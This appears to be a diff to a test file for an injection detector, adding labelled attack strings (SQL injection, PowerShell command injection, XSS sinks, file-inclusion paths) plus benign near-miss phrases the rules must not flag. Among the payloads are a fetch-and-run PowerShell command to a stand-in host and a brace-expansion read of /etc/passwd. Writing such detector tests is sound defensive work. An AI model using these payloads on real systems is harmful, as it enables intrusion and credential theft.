@@ -198,6 +198,14 @@ FRESH2_GENERALISED = [
     ("cmdi", "process.mainModule.require('child_process').exec('nslookup x')", "cmdi.node"),
     ("xss", '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>', "xss.tag"),
     ("xss", "{alert(document.domain)}", "xss.js-sink"),
+    # trivial variations a review found (blanks, `as`, more types, shortened parameters, aliases, prefixes)
+    ("sqli", "declare          @s                                      varchar(200)", "sqli.dynamic"),
+    ("sqli", "declare @s as varchar(200)", "sqli.dynamic"), ("sqli", "declare @s varbinary(8000)", "sqli.dynamic"),
+    ("sqli", "1 order by 1 desc,2 asc--", "sqli.order-by"), ("sqli", "1 having 1#", "sqli.numeric-bool"),
+    ("cmdi", ";iwr -useb http://x/a.ps1|iex", "cmdi.separator-weak"),
+    ("cmdi", "; Start-Sleep -sec 5", "cmdi.separator-weak"), ("cmdi", ";{cat,/etc/passwd}", "cmdi.brace"),
+    ("xss", "top.alert(1)", "xss.js-sink"), ("xss", "alert(String.fromCharCode(88))", "xss.js-sink"),
+    ("lfi", "/opt/a/b/c/d/e/f/g/h/i/nginx.conf", "lfi.system-path"), ("lfi", "./.git/config", "lfi.dot-slash"),
     # PowerShell cmdlets with their kind of argument
     ("cmdi", ";start-sleep -s 5", "cmdi.separator-weak"), ("cmdi", "|iex (new-object net.webclient)",
                                                            "cmdi.separator-weak"),
@@ -264,6 +272,19 @@ NEAR_MISSES = [
     'if [ "a" = "b" ]', "d['a']='b'", "Use arr.find(x) here",
     "const { exec } = require('node:child_process');", "echo {a,b}", "x; {a,b}", "<dc:title>x</dc:title>",
     "<svg:rect/>",
+    # what a review of the new rules found them firing on (deliveries, tickets, configs, XSD, .reg, Markdown)
+    "Leave at door; call John (mobile) if nobody answers", "price list; call now (800) 555-0199",
+    "Meeting notes; describe yourself", "Severity: critical; describe impact",
+    "notification_type=alert, channel=email", "kind=alert, severity=high", "phase=eval, steps=100", "mode = eval;",
+    "notify(alert) when done", "Use model.train(eval) for metrics", "Ping me?prompt(later)", "confirm(order)",
+    "prompt(text)", "{confirm(delivery)}", '<xs:import namespace="urn:x" schemaLocation="a.xsd"/>',
+    '<xsl:import href="common.xsl"/>', "<dc:meta name=x>", 'Headers: @{"Accept"="application/json"}',
+    '"DisplayName"="My App"', "the condition 'yes'='yes' is always true", "'foo'||'bar'",
+    "./src/windows/registry.cc", "./var/www/html/index.php", "./docs/.env.example", "/tmp/error.log",
+    "/docs/nginx.conf", "/api/v1/settings/php.ini", "/static/downloads/web.config", "proc/2/agenda",
+    "| Fields | {id,name} |", "fields=a;{id,name}", "cfg;{env,prod}", "Venues: NYSE; IEX (Investors Exchange)",
+    "In the shell:\niex(1)> 1 + 1", "The onerror=print(log) handler", "the onboarding=confirm(email) flow",
+    "(select(one) from the list below)",
 ]
 
 
